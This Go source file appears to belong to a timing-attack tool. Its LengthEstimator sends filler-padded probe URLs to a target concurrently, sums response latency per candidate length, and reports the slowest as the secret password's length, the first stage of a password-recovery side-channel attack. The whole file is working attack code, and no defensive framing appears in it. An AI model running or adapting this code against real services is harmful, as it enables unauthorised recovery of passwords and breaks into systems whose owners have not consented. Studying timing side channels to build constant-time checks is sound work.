package attack

import (
	"context"
	"errors"
	"fmt"
	"time"

	"timing-attack/internal/core"
	"timing-attack/internal/pool"
	"timing-attack/internal/scoring"
)

// progressEvery is how often a worker logs its running total
const progressEvery = 100

// LengthEstimator infers the password length from aggregate latency of
// filler-padded probes
type LengthEstimator struct {
	config   *core.AttackConfig
	prober   core.Prober
	logger   core.Logger
	observer Observer
	pools    pool.Factory
	analyzer *scoring.StatisticalAnalyzer
}

// NewLengthEstimator creates a length estimator
func NewLengthEstimator(config *core.AttackConfig, prober core.Prober, logger core.Logger) *LengthEstimator {
	return &LengthEstimator{
		config:   config,
		prober:   prober,
		logger:   core.OrNop(logger),
		observer: nopObserver{},
		pools:    pool.New,
		analyzer: scoring.NewStatisticalAnalyzer(),
	}
}

// EstimateLength probes every length in 0..maxLength-1 attempts times and
// returns the length with the largest total latency
func (e *LengthEstimator) EstimateLength(ctx context.Context, prefix, suffix string, maxLength, attempts int) (int, error) {
	start := time.Now()

	table, err := e.Sweep(ctx, prefix, suffix, maxLength, attempts)
	if err != nil {
		return -1, err
	}

	result := &core.StageResult{
		Stage:    core.StageLengthEstimation,
		Position: -1,
		Scores:   table.Snapshot(scoring.FormatLength),
	}

	length, err := table.ArgMax()
	result.Duration = time.Since(start)
	if err != nil {
		if errors.Is(err, scoring.ErrNoUsableCandidate) {
			err = fmt.Errorf("%w: all %d candidate lengths failed", core.ErrNoViableLength, maxLength)
		}
		result.Err = err
		e.logger.Infof("[estimate_length] %v", err)
		e.observer.OnDecision(result)
		return -1, err
	}

	result.Decision = scoring.FormatLength(length)
	e.logScores(result.Scores)
	if summary, err := e.analyzer.Summarize(result.Scores); err == nil {
		e.logger.Debugf("[estimate_length] %s", summary)
	}
	e.logger.Infof("[estimate_length] password length is: %d", length)
	e.observer.OnDecision(result)

	return length, nil
}

// Sweep runs the probes of a length estimation and returns the filled score
// table. Candidate lengths run concurrently, one pool task each; the attempts
// of one candidate run strictly one after another.
func (e *LengthEstimator) Sweep(ctx context.Context, prefix, suffix string, maxLength, attempts int) (*scoring.ScoreTable[int], error) {
	if maxLength < 1 {
		return nil, fmt.Errorf("max length %d: %w", maxLength, core.ErrEmptyCandidates)
	}
	if attempts < 1 {
		return nil, fmt.Errorf("attempts must be at least 1, got %d", attempts)
	}

	table := scoring.NewLengthTable(maxLength)

	workers := e.config.LengthConcurrency
	if workers <= 0 || workers > maxLength {
		workers = maxLength
	}

	wp := e.pools(workers)

	e.logger.Infof("[estimate_length] probing lengths 0..%d, %d attempts each, %d workers", maxLength-1, attempts, wp.Size())
	e.observer.OnStageStart(core.StageLengthEstimation, -1, maxLength*attempts)

	for _, length := range table.Keys() {
		length := length
		url := prefix + e.config.Filler(length) + suffix
		wp.Go(func() {
			e.probeCandidate(ctx, table, url, length, attempts)
		})
	}
	wp.Wait()

	if err := ctx.Err(); err != nil {
		return nil, err
	}

	return table, nil
}

// probeCandidate issues the attempts of one candidate length. The first
// failure disqualifies the candidate and ends its sequence.
func (e *LengthEstimator) probeCandidate(ctx context.Context, table *scoring.ScoreTable[int], url string, length, attempts int) {
	for i := 0; i < attempts; i++ {
		if ctx.Err() != nil {
			return
		}

		result, err := e.prober.Probe(ctx, url)
		if err != nil {
			if ctx.Err() != nil {
				return
			}
			table.Disqualify(length, err)
			e.observer.OnProbe(core.StageLengthEstimation, err)
			e.logger.Infof("[estimate_length][length %d][attempt %d] probe failed, length excluded: %v", length, i, err)
			return
		}

		table.Add(length, result)
		e.observer.OnProbe(core.StageLengthEstimation, nil)

		if i%progressEvery == 0 {
			e.logger.Debugf("[estimate_length][length %d][attempt %d] total time: %s", length, i, table.Entry(length).Total)
		}
	}
}

func (e *LengthEstimator) logScores(scores []core.CandidateScore) {
	for _, s := range scores {
		e.logger.Debugf("[estimate_length] length: %s, time: %s, samples: %d, failed: %d", s.Key, s.Total, s.Successes, s.Failures)
	}
}
